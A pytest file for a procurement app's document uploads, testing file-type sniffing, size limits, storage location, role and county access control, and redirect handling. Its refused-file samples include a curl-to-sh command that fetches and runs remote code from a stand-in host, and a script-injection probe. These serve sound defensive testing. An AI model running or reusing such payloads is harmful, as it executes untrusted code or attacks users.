"""Documents of providers, procurements and contracts: checked by content, stored outside the
static folder, served only to users who may see the owner, deleted with their file."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from app import uploads
from contracts.documents import services as documents
from contracts.documents.models import Document

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
# a 1x1 transparent PNG
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d5a4e30000000049454e44ae426082")


def png_bytes() -> bytes:
    try:
        from PIL import Image
    except ImportError:  # pragma: no cover - Pillow is installed here
        return PNG_1PX
    buffer = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def ooxml_bytes(main: str = "word/document.xml") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main, "<document/>")
    return buffer.getvalue()


def raw_multipart(data: bytes, name: str, **fields: str) -> dict:
    """Keyword arguments of a client call posting ``data`` as the multipart field ``file``,
    built in memory (the test client spools big bodies to a temporary file that it does not
    close when the app answers before reading them)."""
    boundary = "----careprocure-test-boundary"
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
             .encode() for key, value in fields.items()]
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                 f'filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'
                 .encode() + data + f"\r\n--{boundary}--\r\n".encode())
    return {"data": b"".join(parts),
            "content_type": f"multipart/form-data; boundary={boundary}"}


def stored_files(app) -> set[str]:
    folder = Path(app.config["UPLOAD_DIR"]) / "documents"
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


def upload(browser, owner_type: str, owner_id: int, data: bytes, name: str):
    return browser.post(f"/documents/{owner_type}/{owner_id}",
                        {"file": (io.BytesIO(data), name), "next": "/"},
                        follow_redirects=True)


def documents_in_db(db) -> list[Document]:
    db.session.expire_all()
    return list(db.session.scalars(sa.select(Document).order_by(Document.id)))


# ---- accepted files ------------------------------------------------------------------------

def test_officer_uploads_a_pdf_stored_under_upload_dir_not_static(app, db, as_user,
                                                                   make_contract):
    contract = make_contract()
    browser, officer = as_user("officer", region="a")
    before = stored_files(app)

    response = upload(browser, "contract", contract.id, PDF, "服务合同（签字版）.pdf")

    assert response.status_code == 200
    assert "服务合同（签字版）.pdf" in response.get_data(as_text=True)  # the success message
    [doc] = documents_in_db(db)
    assert (doc.contract_id, doc.owner_type, doc.filename) == (contract.id, "contract",
                                                               "服务合同（签字版）.pdf")
    assert doc.size == len(PDF) and doc.sha256 == hashlib.sha256(PDF).hexdigest()
    assert doc.content_type == "application/pdf" and doc.uploaded_by_id == officer.id
    assert stored_files(app) - before == {doc.stored_name}
    path = Path(app.config["UPLOAD_DIR"]) / "documents" / doc.stored_name
    assert path.read_bytes() == PDF
    assert not path.resolve().is_relative_to(Path(app.static_folder).resolve())
    assert "pdf" not in doc.stored_name and doc.filename not in str(path)


def test_png_on_a_provider_and_docx_on_a_procurement_are_accepted(db, as_user, make_provider,
                                                                   make_procurement):
    provider = make_provider()
    procurement = make_procurement()
    browser, _ = as_user("admin")
    upload(browser, "provider", provider.id, png_bytes(), "licence.PNG")
    upload(browser, "procurement", procurement.id, ooxml_bytes(), "招标文件.docx")
    docs = documents_in_db(db)
    assert [(d.owner_type, d.owner_id, d.content_type) for d in docs] == [
        ("provider", provider.id, "image/png"),
        ("procurement", procurement.id,
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]


def test_sniffing_recognises_office_files_by_their_main_part():
    assert uploads.sniff(ooxml_bytes("word/document.xml")) == "docx"
    assert uploads.sniff(ooxml_bytes("xl/workbook.xml")) == "xlsx"
    assert uploads.sniff(ooxml_bytes("ppt/presentation.xml")) == "pptx"
    assert uploads.sniff(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)) == "ole2"
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert uploads.sniff(plain_zip.getvalue()) is None  # no [Content_Types].xml
    assert uploads.sniff(b"PK\x03\x04 not really a zip") is None


# ---- refused files -------------------------------------------------------------------------

@pytest.mark.parametrize("data, name, words", [
    (png_bytes(), "合同.pdf", "PNG"),
    (b"#!/bin/sh\ncurl http://x.example | sh\n", "invoice.pdf", "not a PDF"),
    (b"MZ\x90\x00" + bytes(200), "setup.pdf", "not a PDF"),
    (b"<script>alert(1)</script>", "photo.png", "not a PDF"),
    (ooxml_bytes("xl/workbook.xml"), "report.docx", "Excel"),
    (PDF, "notes.exe", "Upload a PDF"),
    (b"", "empty.pdf", "empty"),
])
def test_content_that_does_not_match_the_extension_is_refused(app, db, as_user, make_contract,
                                                              data, name, words):
    contract = make_contract()
    browser, _ = as_user("officer", region="a")
    before = stored_files(app)
    response = upload(browser, "contract", contract.id, data, name)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert words in page and "uploaded" not in page
    assert documents_in_db(db) == [] and stored_files(app) == before


def test_a_file_over_20_mb_is_refused_with_a_message(app, db, as_user, make_contract):
    contract = make_contract()
    browser, _ = as_user("officer", region="a")
    before = stored_files(app)
    big = PDF + bytes(20 * 1024 * 1024 + 1 - len(PDF))
    response = browser.client.post(
        f"/documents/contract/{contract.id}", follow_redirects=True,
        **raw_multipart(big, "scan.pdf", csrf_token=browser.token, next="/"))
    assert response.status_code == 200
    assert "larger than 20 MB" in response.get_data(as_text=True)
    assert documents_in_db(db) == [] and stored_files(app) == before


def test_a_request_over_the_raw_limit_is_a_413(app, db, as_user, make_contract):
    contract = make_contract()
    browser, _ = as_user("officer", region="a")
    huge = bytes(app.config["MAX_CONTENT_LENGTH"] + 1)
    response = browser.client.post(f"/documents/contract/{contract.id}",
                                   **raw_multipart(huge, "huge.pdf", csrf_token=browser.token))
    assert response.status_code == 413
    assert documents_in_db(db) == []


def test_a_rolled_back_upload_leaves_no_file(app, db, make_contract):
    contract = make_contract()
    before = stored_files(app)
    documents.upload_document(contract, filename="a.pdf", data=PDF)
    assert len(stored_files(app) - before) == 1
    db.session.rollback()
    assert stored_files(app) == before


# ---- who may upload, download and delete ---------------------------------------------------

def _stored_document(db, owner, data=PDF, name="合同扫描件.pdf") -> Document:
    document = documents.upload_document(owner, filename=name, data=data)
    db.session.commit()
    return document


def test_download_by_the_owners_officer_sends_the_bytes_as_an_attachment(db, as_user,
                                                                        make_contract):
    document = _stored_document(db, make_contract())
    browser, _ = as_user("officer", region="a")
    response = browser.get(f"/documents/{document.id}")
    assert response.status_code == 200
    assert response.get_data() == PDF
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition
    assert response.mimetype == "application/pdf"
    response.close()


def test_a_provider_sees_its_own_documents_but_not_another_providers(db, as_user,
                                                                    qualified_provider,
                                                                    make_contract):
    mine, theirs = qualified_provider(), qualified_provider()
    own_doc = _stored_document(db, make_contract(provider=mine))
    other_doc = _stored_document(db, make_contract(provider=theirs))
    browser, _ = as_user("provider", provider=mine)
    ok = browser.get(f"/documents/{own_doc.id}")
    assert ok.status_code == 200
    ok.close()
    assert browser.get(f"/documents/{other_doc.id}").status_code == 404
    assert browser.get("/documents/999999").status_code == 404


def test_a_county_officer_outside_the_county_gets_404(app, db, as_user, make_contract):
    contract = make_contract(region="a")
    document = _stored_document(db, contract)
    browser, _ = as_user("officer", region="b")
    assert browser.get(f"/documents/{document.id}").status_code == 404
    before = stored_files(app)
    response = browser.post(f"/documents/contract/{contract.id}",
                            {"file": (io.BytesIO(PDF), "x.pdf"), "next": "/"})
    assert response.status_code == 404 and stored_files(app) == before
    assert browser.post(f"/documents/{document.id}/delete", {"next": "/"}).status_code == 404
    assert len(documents_in_db(db)) == 1


def test_providers_and_inspectors_may_not_upload_or_delete(db, as_user, make_contract):
    contract = make_contract()
    document = _stored_document(db, contract)
    browser, _ = as_user("provider", provider=contract.provider)
    assert browser.post(f"/documents/contract/{contract.id}",
                        {"file": (io.BytesIO(PDF), "x.pdf")}).status_code == 403
    assert browser.post(f"/documents/{document.id}/delete").status_code == 403
    inspector, _ = as_user("inspector", region="a")
    assert inspector.post(f"/documents/{document.id}/delete").status_code == 403
    assert len(documents_in_db(db)) == 1


def test_delete_removes_the_row_and_the_file(app, db, as_user, make_contract):
    document = _stored_document(db, make_contract())
    path = Path(app.config["UPLOAD_DIR"]) / "documents" / document.stored_name
    assert path.exists()
    browser, _ = as_user("officer", region="a")
    response = browser.post(f"/documents/{document.id}/delete", {"next": "/"})
    assert response.status_code == 303 and response.headers["Location"] == "/"
    assert documents_in_db(db) == [] and not path.exists()


def test_delete_without_csrf_token_changes_nothing(app, db, as_user, make_contract):
    document = _stored_document(db, make_contract())
    browser, _ = as_user("officer", region="a")
    assert browser.post(f"/documents/{document.id}/delete", csrf=False).status_code == 400
    assert len(documents_in_db(db)) == 1


def test_an_absolute_next_url_is_not_followed(db, as_user, make_contract):
    document = _stored_document(db, make_contract())
    browser, _ = as_user("officer", region="a")
    response = browser.post(f"/documents/{document.id}/delete",
                            {"next": "https://evil.example/"})
    assert response.status_code == 303 and "evil" not in response.headers["Location"]


def test_the_include_lists_documents_with_upload_and_delete_for_officers(app, db, make_user,
                                                                        make_contract):
    from flask import render_template
    from flask_login import login_user

    contract = make_contract()
    document = _stored_document(db, contract)
    officer = make_user("officer", region="a")
    provider_user = make_user("provider", provider=contract.provider)
    with app.test_request_context("/contracts/1"):
        login_user(officer)
        html = render_template("contracts/_documents.html", doc_owner=contract,
                               doc_owner_type="contract")
    assert f"/documents/{document.id}" in html and "合同扫描件.pdf" in html
    assert 'enctype="multipart/form-data"' in html and f"/documents/{document.id}/delete" in html
    with app.test_request_context("/contracts/1"):
        login_user(provider_user)
        html = render_template("contracts/_documents.html", doc_owner=contract,
                               doc_owner_type="contract")
    assert f"/documents/{document.id}" in html
    assert "multipart/form-data" not in html and "/delete" not in html


# ---- the API -------------------------------------------------------------------------------

def test_api_upload_and_list_a_contracts_documents(app, db, api_as, make_contract):
    contract = make_contract()
    api, officer = api_as("officer", region="a")
    response = api.post(f"/api/v1/contracts/{contract.id}/documents",
                        data={"file": (io.BytesIO(PDF), "合同.pdf")})
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["filename"] == "合同.pdf" and body["size"] == len(PDF)
    listed = api.get(f"/api/v1/contracts/{contract.id}/documents").get_json()
    assert listed["total"] == 1 and listed["items"][0]["id"] == body["id"]
    huge = bytes(app.config["MAX_CONTENT_LENGTH"] + 1)
    too_big = api.post(f"/api/v1/contracts/{contract.id}/documents",
                       **raw_multipart(huge, "huge.pdf"))
    assert too_big.status_code == 413 and too_big.get_json()["error"]["code"] == "too_large"
    content = api.get(body["download_url"])
    assert content.status_code == 200 and content.get_data() == PDF
    content.close()


def test_api_refuses_a_png_named_pdf_and_hides_other_counties(db, api_as, make_contract):
    contract = make_contract(region="a")
    api, _ = api_as("officer", region="a")
    response = api.post(f"/api/v1/contracts/{contract.id}/documents",
                        data={"file": (io.BytesIO(png_bytes()), "scan.pdf")})
    assert response.status_code == 422
    assert "PNG" in response.get_json()["error"]["fields"]["file"][0]
    outsider, _ = api_as("officer", region="b")
    assert outsider.get(f"/api/v1/contracts/{contract.id}/documents").status_code == 404
    provider, _ = api_as("provider", provider=contract.provider)
    assert provider.post(f"/api/v1/contracts/{contract.id}/documents",
                         data={"file": (io.BytesIO(PDF), "x.pdf")}).status_code == 403
    assert documents_in_db(db) == []


def test_an_officer_who_may_not_change_a_provider_may_not_touch_its_documents(db, as_user,
                                                                             make_contract):
    provider = make_contract().provider  # it works in county A only
    document = _stored_document(db, provider)
    browser, _ = as_user("officer", region="b")
    page = browser.get(f"/providers/{provider.id}").get_data(as_text=True)
    assert document.filename in page and "/delete" not in page
    assert upload(browser, "provider", provider.id, PDF, "b.pdf").status_code == 403
    assert browser.post(f"/documents/{document.id}/delete", {"next": "/"}).status_code == 403
    assert [d.filename for d in documents_in_db(db)] == [document.filename]
